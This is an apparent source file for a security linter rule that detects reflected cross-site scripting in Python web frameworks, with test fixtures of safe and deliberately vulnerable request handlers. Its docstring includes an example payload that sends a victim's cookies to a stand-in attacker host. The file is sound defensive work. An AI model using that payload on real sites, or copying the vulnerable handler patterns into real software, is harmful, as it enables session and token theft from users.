"""SLS803 reflected-xss."""

from __future__ import annotations

import ast

from secure_ls.engine import astutil
from secure_ls.engine.model import Confidence, Severity
from secure_ls.rules._support import frameworks, html, route_bodies, strings, web, xss_fix
from secure_ls.rules.base import Example, Rule, code
from secure_ls.engine.taint import Sink

_CONTENT_KEYWORDS = ("content", "response", "body", "text")
# Tornado's RequestHandler methods that write a string into the response (text/html by default).
_TORNADO_WRITES = frozenset({"write", "finish"})
# Falcon response attributes holding the body; Falcon answers application/json unless told otherwise.
_FALCON_BODIES = frozenset({"text", "body"})


# Direct (not built) request values: reading them is reflecting them.
class ReflectedXss(Rule):
    """
    ## What it does
    Finds request data put into an HTML response without escaping: a body
    built with f-strings, `%`, `.format()` or `+` (or the raw value itself)
    passed to Django's `HttpResponse`, Flask's `make_response`/`Response`,
    Starlette's `HTMLResponse`, written by an http.server request handler
    (`self.wfile.write(page.encode())`, unless the method sends a non-HTML
    `Content-Type`), or returned as a string from a Flask or Bottle
    route or a CherryPy `@cherrypy.expose` method (which they serve as
    `text/html`; not with CherryPy's `tools.json_out`).

    ## Why is this bad?
    A link such as `/search?q=<script>fetch('//evil.example?c='+document.cookie)</script>`
    makes your page run the attacker's script in the victim's session:
    it can read the page, act as the user and steal tokens (reflected
    cross-site scripting).

    ## How to fix it
    Render a template (autoescaped), or escape every inserted value:
    `markupsafe.escape(value)` in Flask, `django.utils.html.escape(value)`
    in Django, `html.escape(value)` elsewhere. The quick fix wraps each
    request-derived value in the right `escape`. markupsafe's and Django's
    `escape` return markup, and `"<h1>" + escape(name)` would then escape
    the `<h1>` too, so a value concatenated with `+` is wrapped in the
    standard library's `html.escape` (imported as `html_escape`), which
    returns `str`. A value whose type is unknown is escaped as
    `escape(str(value))`, which is what an f-string shows; bytes, JSON,
    lists and files are never escaped, whether read inline or through a
    variable (`raw = request.data`), and `%d`-style conversions get no
    fix. A variable given a value the engine cannot type (a helper's
    result, an item of a JSON document) gets an unsafe fix whose title says
    it assumes text. A value that starts a URL (`<a href="{url}">`,
    `<img src='...'>`) gets no fix: escaping keeps it inside the attribute
    but does not stop a `javascript:` URL, so the message says to check its
    scheme (allow http(s) and relative URLs) before escaping it. Responses with a non-HTML `content_type`/`mimetype` are not reported,
    nor werkzeug's and aiohttp's `Response` without one (they default to
    `text/plain`), nor a Tornado handler's writes once it sets a non-HTML
    `Content-Type` (in the method, or in its class's `set_default_headers`
    or `get_content_type`, or an override of `finish`/`write` that sets it
    before Tornado's, the type also as the default of a keyword the write
    does not set to HTML; also a base class's in another module of the
    project: an `APIHandler` that answers JSON), nor what a route returns
    from a helper of its module annotated to return data or a response
    object (`-> dict`, `-> Union[Dict, Response]`: Flask sends a dict as
    JSON, and a response is judged where it is made; a helper returning
    `str` or unannotated is still read), or whose every `return` hands back
    such data or response (a dict or list display, `jsonify()`,
    `redirect()`, `make_response()`, a `...Response`), or what another
    such helper of the module returns; nor what a route annotated that way
    returns, unless it is text the route builds itself. A response marked as a download
    (`Content-Disposition: attachment`) is saved by the browser, not rendered
    in the site's origin: not reported where it is made, nor where a helper
    that marked it returns it. A Django form's `errors` (`f"Invalid: {form.errors}"`, `str(form.errors)`)
    is not reported either: Django renders them as HTML with every message
    escaped. Nor is the content of a file on the server's disk
    (`Path(root, name).read_bytes()`, `open(path).read()`): the request
    chose at most which file, not its text (an upload's `read()` is still
    reported), nor a Flask or Quart upload's `name` (`files["doc"].name`:
    Werkzeug's FileStorage holds the form field's name there, the key it
    was looked up by; its `filename` is the client's).
    """

    id = "SLS803"
    name = "reflected-xss"
    title = "Request data in an HTML response without escaping"
    cwe = 79
    codeql = ("py/reflective-xss",)
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    topic = "xss"
    fixable = True
    calls = frameworks.HTML_BODY_RESPONSES
    methods = _TORNADO_WRITES

    VALID = [
        # a file of the server's disk (the request chose which one, not its text), and a Werkzeug
        # upload's `name`: the form field's, the key it was looked up by
        code("""
            from pathlib import Path
            from quart import Quart, make_response, request
            app = Quart(__name__)

            @app.route("/dist/<name>")
            async def dist(name):
                return await make_response(Path(app.config["DIST_DIR"], name).read_bytes(), 200)

            @app.route("/upload", methods=["POST"])
            async def upload():
                file = (await request.files)["filefield"]
                return await make_response(f"Unexpected file in {file.name}", 400)
        """),
        # every markup character is replaced: what is left cannot open a tag or an entity
        code("""
            import re
            from flask import Flask, request
            app = Flask(__name__)

            @app.get("/preview")
            def preview():
                return re.sub(r"[<>&]", "", request.args.get("content", "")).strip()
        """),
        # werkzeug's Response (not Flask's) is text/plain unless told otherwise
        code("""
            from werkzeug.wrappers import Request, Response

            @Request.application
            def app(request):
                return Response(f"current path: {request.path}")
        """),
        code("""
            from django.http import HttpResponse
            from django.utils.html import escape

            def hello(request):
                return HttpResponse(f"<h1>Hello {escape(request.GET['name'])}</h1>")
        """),
        code("""
            from django.http import HttpResponse

            def export(request):
                return HttpResponse(request.GET["data"], content_type="text/plain")
        """),
        # Django's header item on the response itself
        code("""
            from django.http import HttpResponse

            def export(request):
                resp = HttpResponse(request.GET["data"])
                resp["Content-Type"] = "application/pdf"
                return resp
        """),
        # a download: the browser saves it instead of rendering it in the site's origin
        code("""
            from flask import Flask, make_response, request
            app = Flask(__name__)

            @app.route("/export")
            def export():
                resp = make_response(request.args["chart"])
                resp.headers["Content-Disposition"] = "attachment; filename=%s" % "chart.html"
                return resp
        """),
        code("""
            from django.http import HttpResponse

            def export(request):
                return HttpResponse(request.GET["data"], "application/json")
        """),
        # the type is set on the response after it is made
        code("""
            from flask import Flask, make_response, request
            app = Flask(__name__)

            @app.route("/echo")
            def echo():
                r = make_response(request.args.get("text", ""))
                r.mimetype = "text/plain"
                return r
        """),
        # a JSON response made earlier, given a header (which holds the client's value), then returned
        code("""
            from flask import Flask, jsonify, make_response, request
            app = Flask(__name__)

            @app.route("/items/<name>", methods=["PUT"])
            def put(name):
                r = make_response(jsonify({"name": name}), 201)
                r.headers["Location"] = "/items/" + name
                return r
        """),
        code("""
            from flask import Flask, request, render_template
            app = Flask(__name__)

            @app.route("/hi")
            def hi():
                return render_template("hi.html", name=request.args["name"])
        """),
        code("""
            from flask import Flask, request
            app = Flask(__name__)

            @app.route("/n")
            def n():
                return f"<p>{int(request.args['n']) * 2}</p>"
        """),
        code("""
            from django.http import HttpResponse

            def ok(request):
                return HttpResponse("<p>ok</p>")
        """),
        code("""
            def view(request):
                return f"<p>{request.GET['q']}</p>"
        """),
        code("""
            from flask import Flask, request
            app = Flask(__name__)

            @app.route("/id")
            def ident():
                return f'{{"id": "{request.args["id"]}"}}', 200, {"Content-Type": "application/json"}
        """),
        code("""
            import tornado.web
            from tornado.escape import xhtml_escape

            class Search(tornado.web.RequestHandler):
                def get(self):
                    q = self.get_argument("q", "")
                    self.write("<h2>" + xhtml_escape(q) + "</h2>")
        """),
        code("""
            import falcon

            class Greeting:
                def on_get(self, req, resp):
                    resp.text = f"Hello {req.get_param('who')}"
        """),
        # a Tornado handler that declares JSON, in the method or for the whole class
        code("""
            import json
            import tornado.web

            class Missing(tornado.web.RequestHandler):
                def get(self, name):
                    self.set_status(424)
                    self.set_header("Content-Type", "application/json")
                    self.write(json.dumps({"message": f"{name} is not running"}))
        """),
        code("""
            import json
            import tornado.web

            class Api(tornado.web.RequestHandler):
                def set_default_headers(self):
                    self.set_header("Content-Type", "application/json")

                def get(self):
                    self.write(json.dumps({"echo": self.get_argument("q")}))
        """),
        # a base handler's `finish` sets a JSON type before Tornado sends the response
        code("""
            import json
            import tornado.web

            class JsonHandler(tornado.web.RequestHandler):
                def finish(self, *args, **kwargs):
                    kind = kwargs.pop("content_type", "application/json")
                    self.set_header("Content-Type", kind)
                    return super().finish(*args, **kwargs)

            class Echo(JsonHandler):
                def get(self):
                    self.finish(json.dumps({"echo": self.get_argument("q")}))
        """),
        # Tornado sends a dict as JSON, whether a display or built by `dict(...)`
        code("""
            import tornado.web

            class Grow(tornado.web.RequestHandler):
                def post(self):
                    queue = self.get_argument("queue")
                    self.write(dict(message=f"Adding consumer {queue}"))
        """),
        # Flask's and Quart's make_response send a dict or list as JSON, given inline or by name
        code("""
            from quart import Quart, make_response, request
            app = Quart(__name__)

            @app.route("/headers")
            async def headers():
                return await make_response(dict(request.headers.items()))

            @app.route("/subject")
            async def subject():
                parts = {"cn": request.args["cn"]}
                return await make_response(parts, 200)
        """),
        # a Django form's errors render as HTML with each message escaped
        code("""
            from django.http import HttpResponseBadRequest
            from .forms import InviteForm

            def create(request):
                form = InviteForm(request.POST)
                if not form.is_valid():
                    return HttpResponseBadRequest(f"Errors: {form.errors}")
                return HttpResponseBadRequest(str(form.errors))
        """),
        # the module's helper is annotated to return data (sent as JSON) or a response object
        code("""
            from typing import Dict, Union
            from flask import Flask, Response
            app = Flask(__name__)

            def follow(name: str, action: str) -> Union[Dict, Response]:
                if action not in ("accept", "reject"):
                    return Response(status=400)
                return {"message": f"Request from {name} {action}ed."}

            @app.post("/follow/<name>/accept")
            def accept(name):
                return follow(name, "accept")
        """),
        # every return of the helpers is data (a list Flask sends as JSON) or a response object
        code("""
            from flask import Flask, jsonify, redirect, request, url_for
            app = Flask(__name__)

            def finish(location):
                return redirect(location or url_for("index"))

            def delete_book(book_id, json_response, location=""):
                if json_response:
                    return [{"location": location, "type": "success"}]
                if not book_id:
                    return jsonify({"location": url_for("index")}), 404
                return finish(location)

            @app.post("/delete/<int:book_id>")
            def delete(book_id):
                return delete_book(book_id, False, request.form.get("location", ""))
        """),
        # the view itself is annotated to return data: Flask sends the dict as JSON
        code("""
            from typing import Any, Dict, Tuple
            from flask import Flask, request
            app = Flask(__name__)

            def lookup(name):
                return {"name": name}, 200

            @app.post("/verify")
            def verify() -> Tuple[Dict[str, Any], int]:
                result, status = lookup(request.form["name"])
                return result, status
        """),
    ]
    INVALID = [
        # an upload's content and file name are the client's text
        Example(
            code("""
                from quart import Quart, make_response, request
                app = Quart(__name__)

                @app.route("/upload", methods=["POST"])
                async def upload():
                    upload = (await request.files)["file"]
                    if upload.filename.endswith(".txt"):
                        return await make_response(upload.read(), 200)
                    return await make_response(f"Unexpected file {upload.filename}", 400)
            """),
            where="upload.read()",
            says="returns the Quart request unescaped",
            count=2,
        ),
        Example(  # annotated as data, yet it returns markup it builds itself
            code("""
                from typing import Any, Dict, Tuple
                from flask import Flask, request
                app = Flask(__name__)

                @app.get("/hello")
                def hello() -> Tuple[Dict[str, Any], int]:
                    page = f"<h1>{request.args['name']}</h1>"
                    return page, 200
            """),
            fixed=code("""
                from typing import Any, Dict, Tuple
                from flask import Flask, request
                from markupsafe import escape
                app = Flask(__name__)

                @app.get("/hello")
                def hello() -> Tuple[Dict[str, Any], int]:
                    page = f"<h1>{escape(request.args['name'])}</h1>"
                    return page, 200
            """),
            where="request.args['name']",
            says="The Flask request `request.args['name']` is written into an HTML response",
        ),
        Example(  # a serializer's errors are a dict: its text is not escaped
            code("""
                from django.http import HttpResponseBadRequest
                from .serializers import InviteSerializer

                def create(request):
                    serializer = InviteSerializer(data=request.POST)
                    if not serializer.is_valid():
                        return HttpResponseBadRequest(f"Errors: {serializer.errors}")
            """),
            fixed=code("""
                from django.http import HttpResponseBadRequest
                from .serializers import InviteSerializer
                from django.utils.html import escape

                def create(request):
                    serializer = InviteSerializer(data=request.POST)
                    if not serializer.is_valid():
                        return HttpResponseBadRequest(f"Errors: {escape(serializer.errors)}")
            """),
            where="serializer.errors",
            says="The HTTP request `serializer.errors` is written into an HTML response without escaping",
        ),
        Example(  # removing whole <script> elements leaves every other tag, and `<scr<script></script>ipt>`
            code("""
                import re
                from flask import Flask, request
                app = Flask(__name__)

                @app.get("/preview")
                def preview():
                    content = request.args.get("content", "")
                    return re.sub(r"<script.*?>.*?</script>", "", content, flags=re.DOTALL)
            """),
            fixed=code("""
                import re
                from flask import Flask, request
                from markupsafe import escape
                app = Flask(__name__)

                @app.get("/preview")
                def preview():
                    content = request.args.get("content", "")
                    return escape(re.sub(r"<script.*?>.*?</script>", "", content, flags=re.DOTALL))
            """),
            where="re.sub(",
            says="The Flask request `re.sub(",
        ),
        Example(  # the page is made by the module's own helper: its summary says it returns the request's text
            code("""
                from flask import Flask, request
                app = Flask(__name__)

                def greeting(name) -> str:
                    return f"<p>Hello, {name}!</p>"

                @app.get("/hello")
                def hello():
                    return greeting(request.args.get("name", "stranger"))
            """),
            where="greeting(",
            says="`greeting()` returns the Flask request unescaped",
        ),
        Example(
            code("""
                from django.http import HttpResponse

                def hello(request):
                    name = request.GET.get("name", "")
                    return HttpResponse(f"<h1>Hello {name}</h1>")
            """),
            fixed=code("""
                from django.http import HttpResponse
                from django.utils.html import escape

                def hello(request):
                    name = request.GET.get("name", "")
                    return HttpResponse(f"<h1>Hello {escape(name)}</h1>")
            """),
            where='name',
            says='The HTTP request `name` is written into an HTML response without escaping',
        ),
        Example(
            code("""
                from flask import Flask, request
                app = Flask(__name__)

                @app.route("/search")
                def search():
                    q = request.args.get("q", "")
                    return "<p>No results for " + q + "</p>", 404
            """),
            fixed=code("""
                from flask import Flask, request
                from html import escape as html_escape
                app = Flask(__name__)

                @app.route("/search")
                def search():
                    q = request.args.get("q", "")
                    return "<p>No results for " + html_escape(q) + "</p>", 404
            """),
            where='q',
            says='The Flask request `q` is written into an HTML response without escaping',
        ),
        Example(
            code("""
                from django.http import HttpResponse

                def page(request):
                    body = "<h1>Results</h1>"
                    body += "<p>" + request.GET["q"] + "</p>"
                    return HttpResponse(body)
            """),
            where='request.GET["q"]',
            says='The HTTP request `request.GET["q"]` is written into an HTML response',
        ),
        Example(
            code("""
                from django.http import HttpResponse

                def page(request):
                    html = f"<p>{request.GET['q']}</p>"
                    return HttpResponse(html)
            """),
            fixed=code("""
                from django.http import HttpResponse
                from django.utils.html import escape

                def page(request):
                    html = f"<p>{escape(request.GET['q'])}</p>"
                    return HttpResponse(html)
            """),
            where="request.GET['q']",
            says="The HTTP request `request.GET['q']` is written into an HTML response",
        ),
        # a URL from the request starts an href: escaping would not stop `javascript:`
        Example(
            code("""
                from flask import Flask, request
                app = Flask(__name__)

                @app.route("/go")
                def go():
                    target = request.args.get("next", "/")
                    return f'<a href="{target}">continue</a>'
            """),
            fixed=None,
            says="`target` is the start of a URL (`href=`), where escaping does not stop a `javascript:` URL",
            where='target',
        ),
        Example(
            code("""
                from django.http import HttpResponse

                def echo(request):
                    return HttpResponse(request.GET["msg"])
            """),
            fixed=code("""
                from django.http import HttpResponse
                from django.utils.html import escape

                def echo(request):
                    return HttpResponse(escape(request.GET["msg"]))
            """),
            where='request.GET["msg"]',
            says='The HTTP request `request.GET["msg"]` is written into an HTML response',
        ),
        Example(
            code("""
                from flask import Flask, make_response
                app = Flask(__name__)

                @app.route("/user/<name>")
                def user(name):
                    return make_response("<h1>%s</h1>" % name)
            """),
            fixed=code("""
                from flask import Flask, make_response
                from markupsafe import escape
                app = Flask(__name__)

                @app.route("/user/<name>")
                def user(name):
                    return make_response("<h1>%s</h1>" % escape(name))
            """),
            where='name',
            says='The route parameter `name` is written into an HTML response',
        ),
        Example(
            code("""
                import tornado.web

                class Search(tornado.web.RequestHandler):
                    def get(self):
                        q = self.get_argument("q", "")
                        self.write("<h2>Results for " + q + "</h2>")
            """),
            fixed=code("""
                import tornado.web
                from html import escape as html_escape

                class Search(tornado.web.RequestHandler):
                    def get(self):
                        q = self.get_argument("q", "")
                        self.write("<h2>Results for " + html_escape(q) + "</h2>")
            """),
            where='q',
            says='The HTTP request `q` is written into an HTML response without escaping',
        ),
        Example(
            code("""
                import falcon

                class Greeting:
                    def on_get(self, req, resp):
                        resp.content_type = falcon.MEDIA_HTML
                        resp.text = f"<p>Hello {req.get_param('who')}</p>"
            """),
            fixed=code("""
                import falcon
                from html import escape

                class Greeting:
                    def on_get(self, req, resp):
                        resp.content_type = falcon.MEDIA_HTML
                        resp.text = f"<p>Hello {escape(str(req.get_param('who')))}</p>"
            """),
            where="req.get_param('who')",
            says="The HTTP request `req.get_param('who')` is written into an HTML response",
        ),
        Example(
            code("""
                from bottle import request, route

                @route("/notice")
                def notice():
                    return "<div>%s</div>" % request.query.msg
            """),
            fixed=code("""
                from bottle import request, route
                from html import escape

                @route("/notice")
                def notice():
                    return "<div>%s</div>" % escape(request.query.msg)
            """),
            where='request.query.msg',
            says='The Bottle request `request.query.msg` is written into an HTML response',
        ),
        Example(
            code("""
                from aiohttp import web

                async def not_found(request):
                    return web.Response(text=f"<h1>Nothing at {request.path}</h1>", content_type="text/html")
            """),
            fixed=code("""
                from aiohttp import web
                from html import escape

                async def not_found(request):
                    return web.Response(text=f"<h1>Nothing at {escape(request.path)}</h1>", content_type="text/html")
            """),
            where='request.path',
            says='The HTTP request `request.path` is written into an HTML response without escaping',
        ),
    ]

    def visit_Call(self, node: ast.Call, ctx) -> None:
        if frameworks.tornado_handler_method(node, ctx) in _TORNADO_WRITES:
            if node.args and not html.sent_as_json(node.args[0], ctx) and not html.tornado_typed_as_non_html(node, ctx):
                self._check(node.args[0], "other", ctx)
            return
        if (written := html.http_server_body(node, ctx)) is not None:
            self._check(written, "other", ctx)  # an http.server handler's `self.wfile.write(page.encode())`
            return
        family = frameworks.html_body_family(ctx.call_name(node) or "")
        if family is None:
            return
        typed = False
        declared = [kw.value for kw in node.keywords if kw.arg in html.TYPE_KEYWORDS]
        if family == "django" and len(node.args) > 1:
            declared.append(node.args[1])  # HttpResponse(content, content_type, status, ...)
        for value_node in declared:
            value = ctx.string_value(value_node)
            if value is None or "html" not in value.lower():
                return
            typed = True
        if not typed and ctx.call_name(node) in frameworks.PLAIN_BY_DEFAULT_RESPONSES:
            return  # served as text/plain: escaping would only change the text
        if html.typed_later_as_non_html(node, ctx):
            return
        body = web.argument(node, 0, _CONTENT_KEYWORDS)
        if body is not None and astutil.last_name(node.func) == "make_response" and html.json_data(body, ctx):
            return  # Flask's and Quart's make_response send a dict or list as JSON
        if body is not None:
            self._check(body, family, ctx)

    def visit_Assign(self, node: ast.Assign, ctx) -> None:
        """Falcon: `resp.text = ...` in a responder that set an HTML content type."""
        target = node.targets[0]
        if len(node.targets) != 1 or not isinstance(target, ast.Attribute) or target.attr not in _FALCON_BODIES:
            return
        if not ctx.imports("falcon") or not isinstance(target.value, ast.Name):
            return
        func = ctx.enclosing_function(node)
        if func is not None and html.sets_html_content_type(func, target.value.id, ctx):
            self._check(node.value, "other", ctx)

    def visit_Return(self, node: ast.Return, ctx) -> None:
        if node.value is None or not frameworks.imports_any(ctx, frameworks.RETURNED_TEXT_IS_HTML):
            return
        func = ctx.enclosing_function(node)
        if not frameworks.is_route_handler(func) or route_bodies.is_fastapi(func, ctx) or route_bodies.declares_json_out(func):
            return
        body = node.value
        if isinstance(body, ast.Tuple) and body.elts:
            if any(html.non_html_headers(e, ctx) for e in body.elts[1:]):
                return
            body = body.elts[0]
        while isinstance(body, ast.Await):
            body = body.value  # Quart's `return await make_response(...)`: the response the call makes
        family = "flask" if ctx.imports("flask") or ctx.imports("quart") else "other"
        if route_bodies.declares_data(func, body, ctx):
            return  # `def verify() -> tuple[dict, int]`: the view declares data, which Flask sends as JSON
        if isinstance(body, ast.Name) and route_bodies.holds_response(body, ctx):
            return  # `r = make_response(jsonify(result), 201)`: checked where it was made
        if isinstance(body, ast.Name) and html.json_data(body, ctx):
            return  # `result = {...}; return result`: a dict or list, sent as JSON like one returned whole
        if isinstance(body, ast.Call) and not route_bodies.transforms_text(body, ctx):
            if route_bodies.module_function(body, ctx) and body.func.id not in ctx.module.data_functions:
                self._check(body, family, ctx)  # `return greeting(name)`: the module's own helper makes the page
            return  # a response object or a framework's call: checked where it is built
        self._check(body, family, ctx)

    def _check(self, body: ast.expr, family: str, ctx) -> None:
        fixable = True
        parts = None
        built, via = web.built_value(ctx, body, Sink.HTML)
        if strings.is_built(built):
            # HTML assembled in several steps: escaping one piece would leave the others
            fixable = built is body or via is not None
            parts = strings.pieces(built)
            if parts is None:
                return
            targets = [v for v in strings.values(parts) if route_bodies.reflected(v, ctx)]
        elif isinstance(body, ast.Call) and not xss_fix.is_request_get(body) and not route_bodies.transforms_text(body, ctx):
            # HTML made by a helper, in this module or another of the workspace
            # (`make_response(greeting())`): its summary says whether it returns
            # request data unescaped. Calls nothing is known about hand taint
            # back only as "unknown", which is not reported here.
            part = ctx.origin(body).risk(Sink.HTML)
            if route_bodies.reflected(body, ctx) and not route_bodies.reads_a_server_file(body, ctx):
                ctx.report(
                    self,
                    body,
                    f"`{ctx.text(body.func)}()` returns {part.label} unescaped, and it is written into an HTML "
                    "response (cross-site scripting). Escape the value inside the helper, or render a template.",
                    confidence=part.confidence(),
                    related=ctx.related_path(part),
                )
            return
        elif isinstance(body, xss_fix.DIRECT) or xss_fix.is_request_get(body) or route_bodies.transforms_text(body, ctx):
            targets = [body] if route_bodies.reflected(body, ctx) else []
            if isinstance(body, ast.Name) and any(
                strings.is_built(v) or isinstance(v, ast.Constant) for v in ctx.assigned_values(body)
            ):
                fixable = False  # HTML assembled in several steps: escaping the whole of it would be wrong
        else:
            return
        if not targets:
            return
        part, worst = web.worst_value(ctx, targets, Sink.HTML)
        fix = None
        attributes = html.url_attributes(parts)
        urls = [(t, attributes[t]) for t in targets if t in attributes]
        if fixable and not urls and all(web.wrappable(ctx, t) for t in targets):
            fix = xss_fix.escape_fix(built if strings.is_built(built) else body, targets, family, ctx)
        ctx.report(
            self,
            worst,
            f"{web.upper_first(web.describe_value(ctx, part, worst))} is written into an HTML response without escaping "
            "(cross-site scripting). Escape it or render a template." + "".join(html.scheme_check_note(ctx.text(t), a) for t, a in urls[:1]),
            fix=fix,
            confidence=part.confidence(),
            related=ctx.related_path(part),
            rewrites=via,
        )
